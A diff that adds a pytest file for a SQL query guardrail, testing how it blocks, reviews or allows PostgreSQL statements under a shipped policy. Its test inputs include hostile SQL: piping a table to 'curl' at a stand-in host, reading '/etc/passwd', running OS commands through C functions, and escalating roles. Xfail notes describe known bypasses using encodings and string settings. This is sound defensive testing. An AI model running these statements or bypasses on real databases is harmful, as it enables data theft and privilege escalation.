@@ -1,0 +1,385 @@
+"""``Guard``: whole query strings per session, the strictest verdict, the fallback, the cache,
+and what the shipped ``policies.yaml`` decides."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+import engine.guardrail.guard as guard_module
+from engine.config import load_config
+from engine.guardrail import Guard, GuardrailSettings, Judgement, Rule
+from engine.guardrail.guard import SessionGuard, statement_hash
+from engine.guardrail.rules import Match
+
+REPO = Path(__file__).resolve().parents[3]
+ENG = frozenset({"engineering"})
+
+RULES = (
+    Rule("no-drop", "block", Match(statements=frozenset({"DROP"})), message="Use a migration."),
+    Rule("no-truncate", "block", Match(statements=frozenset({"TRUNCATE"}))),
+    Rule("review-deletes", "review", Match(statements=frozenset({"DELETE"}))),
+)
+
+
+def session(rules: tuple[Rule, ...] = RULES, **settings: object) -> SessionGuard:
+    return SessionGuard(rules, GuardrailSettings(**settings))  # type: ignore[arg-type]
+
+
+# --- multi-statement strings: the strictest verdict ----------------------------------------
+
+
+def test_single_statements() -> None:
+    g = session()
+    assert g.judge("SELECT 1").action == "allow"
+    assert g.judge("SELECT 1").rule is None
+    judged = g.judge("DELETE FROM t WHERE id = 1")
+    assert (judged.action, judged.rule) == ("review", "review-deletes")
+    judged = g.judge("DROP TABLE t")
+    assert (judged.action, judged.rule) == ("block", "no-drop")
+    assert judged.verdict.hint == "Use a migration."
+    assert judged.parse_error is None
+
+
+@pytest.mark.parametrize(("sql", "action", "rule", "statement"), [
+    ("SELECT 1; DELETE FROM t; SELECT 2", "review", "review-deletes", "DELETE FROM t"),
+    ("DELETE FROM t; DROP TABLE t", "block", "no-drop", "DROP TABLE t"),
+    ("DROP TABLE t; DELETE FROM t", "block", "no-drop", "DROP TABLE t"),
+    ("SELECT 1; SELECT 2", "allow", None, "SELECT 1"),
+    # Two blocked statements: the first one decides.
+    ("SELECT 1; TRUNCATE t; DROP TABLE t", "block", "no-truncate", "TRUNCATE t"),
+])
+def test_multi_statement_takes_the_strictest_verdict(
+        sql: str, action: str, rule: str | None, statement: str) -> None:
+    judged = session().judge(sql)
+    assert judged.action == action
+    assert judged.rule == rule
+    assert judged.verdict.statement == statement
+    assert judged.verdict.action == action
+
+
+def test_every_statements_verdict_is_kept() -> None:
+    judged = session().judge("SELECT 1; DELETE FROM t; DROP TABLE t")
+    assert [(v.action, v.rule, v.statement) for v in judged.statements] == [
+        ("allow", None, "SELECT 1"),
+        ("review", "review-deletes", "DELETE FROM t"),
+        ("block", "no-drop", "DROP TABLE t"),
+    ]
+
+
+# --- unparseable and empty -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fallback", ["block", "review", "allow"])
+def test_fallback_for_unparseable_sql(fallback: str) -> None:
+    sql = "DR/**/OP TABLE t"
+    judged = session(fallback=fallback).judge(sql)
+    assert judged.action == fallback
+    assert judged.rule == "fallback"
+    assert judged.verdict.statement == sql
+    assert judged.statements == (judged.verdict,)
+    assert judged.parse_error is not None
+    assert "syntax error" in judged.parse_error
+    assert "cannot be classified" in judged.verdict.reason
+
+
+def test_fallback_is_used_even_when_a_rule_would_allow_everything() -> None:
+    allow_all = (Rule("anything", "allow", Match(regex=re.compile("."))),)
+    judged = session(allow_all, fallback="block").judge("SELECT 'unterminated")
+    assert (judged.action, judged.rule) == ("block", "fallback")
+
+
+@pytest.mark.parametrize("sql", ["", "  ", ";", "-- nothing\n"])
+def test_empty_query_is_allowed(sql: str) -> None:
+    judged = session(fallback="block").judge(sql)
+    assert judged.action == "allow"
+    assert judged.rule is None
+    assert judged.parse_error is None
+    assert judged.verdict.reason == "empty query"
+
+
+# --- the verdict cache ---------------------------------------------------------------------
+
+
+@pytest.fixture
+def classify_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    calls: list[str] = []
+    real = guard_module.classify
+
+    def counting(sql: str):  # type: ignore[no-untyped-def]
+        calls.append(sql)
+        return real(sql)
+
+    monkeypatch.setattr(guard_module, "classify", counting)
+    return calls
+
+
+def test_cache_returns_the_identical_judgement(classify_calls: list[str]) -> None:
+    g = session()
+    first = g.judge("DROP TABLE t")
+    assert g.judge("DROP TABLE t") is first
+    assert classify_calls == ["DROP TABLE t"]
+    # Keyed by exact text: a different spelling is judged again.
+    other = g.judge("drop table t")
+    assert other is not first
+    assert other.action == "block"
+    assert classify_calls == ["DROP TABLE t", "drop table t"]
+
+
+def test_cache_holds_fallback_judgements_too(classify_calls: list[str]) -> None:
+    g = session()
+    bad = g.judge("SELEC 1")
+    assert g.judge("SELEC 1") is bad
+    assert classify_calls == ["SELEC 1"]
+
+
+def test_cache_is_bounded_and_evicts_the_oldest(classify_calls: list[str]) -> None:
+    g = session(cache_size=2)
+    a = g.judge("SELECT 'a'")
+    b = g.judge("SELECT 'b'")
+    c = g.judge("SELECT 'c'")  # evicts a
+    assert g.judge("SELECT 'b'") is b
+    assert g.judge("SELECT 'c'") is c
+    assert classify_calls == ["SELECT 'a'", "SELECT 'b'", "SELECT 'c'"]
+    again = g.judge("SELECT 'a'")  # judged anew, evicting b
+    assert again is not a
+    assert again == a
+    assert classify_calls[-1] == "SELECT 'a'"
+    assert len(classify_calls) == 4
+    assert g.judge("SELECT 'b'") is not b
+
+
+def test_cache_size_one(classify_calls: list[str]) -> None:
+    g = session(cache_size=1)
+    a = g.judge("SELECT 1")
+    assert g.judge("SELECT 1") is a
+    g.judge("SELECT 2")
+    assert g.judge("SELECT 1") is not a
+    assert len(classify_calls) == 3
+
+
+# --- Guard.for_session ---------------------------------------------------------------------
+
+SCOPED = (
+    Rule("shop-only", "block", Match(statements=frozenset({"TRUNCATE"})),
+         connections=frozenset({"shop"})),
+    Rule("engineers", "review", Match(statements=frozenset({"DELETE"})), groups=ENG),
+    Rule("bob-only", "block", Match(statements=frozenset({"SELECT"})),
+         identities=frozenset({"bob"})),
+    Rule("everyone", "block", Match(statements=frozenset({"DROP"}))),
+)
+
+
+def test_for_session_filters_rules_in_order() -> None:
+    guard = Guard(SCOPED, GuardrailSettings())
+    names = [r.name for r in guard.for_session("shop", "alice", ENG).rules]
+    assert names == ["shop-only", "engineers", "everyone"]
+    names = [r.name for r in guard.for_session("warehouse", "bob", frozenset()).rules]
+    assert names == ["bob-only", "everyone"]
+
+
+def test_for_session_judges_with_its_own_rules() -> None:
+    guard = Guard(SCOPED, GuardrailSettings())
+    alice = guard.for_session("shop", "alice", ENG)
+    bob = guard.for_session("warehouse", "bob", frozenset())
+    assert alice.judge("SELECT 1").action == "allow"
+    assert bob.judge("SELECT 1").action == "block"
+    assert alice.judge("DELETE FROM t").action == "review"
+    assert bob.judge("DELETE FROM t").action == "allow"
+    assert guard.for_session("warehouse", "alice", ENG).judge("TRUNCATE t").action == "allow"
+
+
+def test_for_session_reuses_the_session_guard() -> None:
+    settings = GuardrailSettings(fallback="review")
+    guard = Guard(SCOPED, settings)
+    first = guard.for_session("shop", "alice", ENG)
+    assert guard.for_session("shop", "alice", frozenset({"engineering"})) is first
+    assert guard.for_session("shop", "alice", frozenset()) is not first
+    assert guard.for_session("warehouse", "alice", ENG) is not first
+    assert guard.for_session("shop", "bob", ENG) is not first
+    assert first.settings is settings
+    judged = first.judge("DELETE FROM t")
+    assert guard.for_session("shop", "alice", ENG).judge("DELETE FROM t") is judged
+
+
+def test_statement_hash_is_sha256_hex() -> None:
+    assert statement_hash("SELECT 1") == (
+        "e004ebd5b5532a4b85984a62f8ad48a81aa3460c1ca07701f386135d72cdecf5")
+    assert statement_hash("SELECT 1") != statement_hash("SELECT 1 ")
+
+
+# --- the shipped policies.yaml -------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def shipped() -> SessionGuard:
+    config = load_config(REPO / "policies.yaml")
+    alice = next(i for i in config.identities if i.name == "alice")
+    return Guard(config.rules, config.guardrails).for_session("shop", alice.name, alice.groups)
+
+
+def test_shipped_settings() -> None:
+    config = load_config(REPO / "policies.yaml")
+    assert config.guardrails.fallback == "block"
+    assert config.guardrails.review_timeout == 300.0
+    assert config.guardrails.approver_groups == {"operators"}
+    assert config.guardrails.min_approvals == 1
+
+
+@pytest.mark.parametrize(("sql", "rule"), [
+    ("DROP TABLE orders", "no-drop"),
+    ("drop /* x */ table public.orders", "no-drop"),
+    ("DROP DATABASE shop", "no-drop"),
+    ("DROP ROLE bob", "no-drop"),
+    ("TRUNCATE orders", "no-truncate"),
+    ("ALTER SYSTEM SET work_mem = '1GB'", "no-alter-system"),
+    ("LOAD 'auto_explain'", "no-alter-system"),
+    ("CREATE ROLE mallory SUPERUSER", "no-role-or-grant-changes"),
+    ("CREATE USER mallory", "no-role-or-grant-changes"),
+    ("ALTER ROLE alice SUPERUSER", "no-role-or-grant-changes"),
+    ("GRANT ALL ON orders TO alice", "no-role-or-grant-changes"),
+    ("REVOKE SELECT ON orders FROM report_bot", "no-role-or-grant-changes"),
+    ("GRANT pg_read_server_files TO alice", "no-role-or-grant-changes"),
+    ("SET ROLE postgres", "no-role-or-grant-changes"),
+    ("SET SESSION AUTHORIZATION postgres", "no-role-or-grant-changes"),
+    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO alice", "no-role-or-grant-changes"),
+    ("COPY orders TO PROGRAM 'curl -d @- http://x'", "no-server-programs-or-files"),
+    ("COPY orders FROM PROGRAM 'id'", "no-server-programs-or-files"),
+    ("COPY orders FROM '/etc/passwd'", "no-server-programs-or-files"),
+    ("COPY orders TO '/tmp/orders.csv'", "no-server-programs-or-files"),
+    ("SELECT pg_read_file('/etc/passwd')", "no-server-file-functions"),
+    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "no-server-file-functions"),
+    ("SELECT \"pg_read_file\"('/etc/passwd')", "no-server-file-functions"),
+    ("SELECT * FROM pg_ls_dir('/')", "no-server-file-functions"),
+    ("SELECT lo_import('/etc/passwd')", "no-server-file-functions"),
+    ("SELECT pg_file_write('x', 'y', false)", "no-server-file-functions"),
+    ("SELECT id FROM orders WHERE id IN (SELECT length(pg_read_binary_file('x')))",
+     "no-server-file-functions"),
+    ("SELECT dblink('host=x', 'SELECT 1')", "no-dblink"),
+    ("SELECT dblink_exec('host=x', 'DROP TABLE orders')", "no-dblink"),
+    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "no-do-blocks"),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'", "no-untrusted-code"),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", "no-untrusted-code"),
+    ("CREATE EXTENSION dblink", "no-untrusted-code"),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "no-backend-control"),
+    ("SELECT pg_cancel_backend(1)", "no-backend-control"),
+    ("SELECT pg_reload_conf()", "no-backend-control"),
+    # What hides inside is judged too.
+    ("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('x') $$",
+     "no-server-file-functions"),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE orders $$", "no-drop"),
+    ("EXPLAIN ANALYZE SELECT pg_read_file('x')", "no-server-file-functions"),
+    ("PREPARE p AS SELECT dblink('x', 'y')", "no-dblink"),
+    ("SELECT 1; DROP TABLE orders", "no-drop"),
+])
+def test_shipped_policy_blocks(shipped: SessionGuard, sql: str, rule: str) -> None:
+    judged = shipped.judge(sql)
+    assert (judged.action, judged.rule) == ("block", rule)
+
+
+def test_shipped_block_gives_the_rules_message(shipped: SessionGuard) -> None:
+    judged = shipped.judge("DROP TABLE orders")
+    assert judged.verdict.hint == (
+        "Dropping objects goes through a reviewed migration, not an ad-hoc session.")
+    assert "orders" in judged.verdict.reason
+
+
+@pytest.mark.parametrize("sql", [
+    "UPDATE orders SET total = 0",
+    "DELETE FROM orders",
+    "UPDATE orders SET total = 0 WHERE true",
+    "DELETE FROM orders WHERE 1=1",
+    "DELETE FROM orders WHERE 'a'='a'",
+    "UPDATE orders SET total = 0 WHERE 1<2",
+    "DELETE FROM orders WHERE id = 1 OR true",
+    "DELETE FROM orders WHERE NOT false",
+    "UPDATE orders SET total = 0 WHERE id = id",
+    "DELETE FROM orders WHERE true AND true",
+    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
+    "EXPLAIN ANALYZE DELETE FROM orders",
+    "PREPARE wipe AS DELETE FROM orders",
+    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$",
+    "SELECT 1; UPDATE orders SET total = 0",
+])
+def test_shipped_policy_reviews_unbounded_writes(shipped: SessionGuard, sql: str) -> None:
+    judged = shipped.judge(sql)
+    assert (judged.action, judged.rule) == ("review", "review-unbounded-writes")
+    assert judged.verdict.hint is not None
+
+
+@pytest.mark.parametrize("sql", [
+    "SELECT * FROM orders",
+    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
+    "INSERT INTO orders (id, total) VALUES (1, 10)",
+    "UPDATE orders SET total = 0 WHERE id = 1",
+    "DELETE FROM orders WHERE id = 1",
+    "DELETE FROM orders WHERE 1=2",
+    "DELETE FROM orders WHERE a IS NULL",
+    "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
+    "EXPLAIN DELETE FROM orders",
+    "EXPLAIN SELECT pg_read_file('x')",
+    "COPY orders FROM STDIN",
+    "COPY orders TO STDOUT",
+    "BEGIN; UPDATE orders SET total = 1 WHERE id = 2; COMMIT",
+    "SELECT now(), count(*) FROM orders",
+    "SET statement_timeout = '5s'",
+    "CREATE TABLE scratch (a int)",
+    "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
+    "SELECT 'DROP TABLE orders'",
+    "SELECT $$ ; DELETE FROM orders $$",
+    "",
+])
+def test_shipped_policy_allows_ordinary_work(shipped: SessionGuard, sql: str) -> None:
+    judged = shipped.judge(sql)
+    assert judged.action == "allow", judged.verdict
+    assert judged.rule is None
+
+
+def test_shipped_policy_falls_back_to_block(shipped: SessionGuard) -> None:
+    judged = shipped.judge("DR/**/OP TABLE orders")
+    assert (judged.action, judged.rule) == ("block", "fallback")
+
+
+def test_shipped_rules_apply_to_every_identity() -> None:
+    config = load_config(REPO / "policies.yaml")
+    guard = Guard(config.rules, config.guardrails)
+    for ident in config.identities:
+        session_guard = guard.for_session("shop", ident.name, ident.groups)
+        assert [r.name for r in session_guard.rules] == [r.name for r in config.rules]
+        assert session_guard.judge("DROP TABLE orders").action == "block"
+
+
+def test_judgement_type(shipped: SessionGuard) -> None:
+    assert isinstance(shipped.judge("SELECT 1"), Judgement)
+
+
+# --- known bugs ----------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: ALTER ROLE ... RENAME is kind RENAME only "
+                   "(RenameStmt), so the shipped role rule does not block it")
+def test_shipped_policy_blocks_role_rename(shipped: SessionGuard) -> None:
+    assert shipped.judge("ALTER ROLE alice RENAME TO mallory").action == "block"
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: set_config('role', ...) is SET ROLE by another "
+                   "name; policies.yaml blocks SET ROLE but not set_config")
+def test_shipped_policy_blocks_set_role_through_set_config(shipped: SessionGuard) -> None:
+    assert shipped.judge("SELECT set_config('role', 'postgres', false)").action == "block"
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: the classifier always parses with "
+                   "standard_conforming_strings on; a client that turns it off (SET, or the "
+                   "startup packet) makes the server run what the guard took for a string: "
+                   "SELECT 'x\\'' ; DROP TABLE t; --' then drops t")
+def test_turning_standard_conforming_strings_off_is_not_allowed(shipped: SessionGuard) -> None:
+    assert shipped.judge("SET standard_conforming_strings = off").action != "allow"
+
+
+@pytest.mark.xfail(strict=True, reason="BUG: the gateway decodes queries as UTF-8 whatever the "
+                   "client_encoding; with SJIS, E'\\x95\\' ; DROP TABLE t; --' is one SELECT to "
+                   "the guard and a SELECT plus DROP TABLE to the server")
+def test_switching_to_an_unsafe_client_encoding_is_not_allowed(shipped: SessionGuard) -> None:
+    assert shipped.judge("SET client_encoding = 'SJIS'").action != "allow"
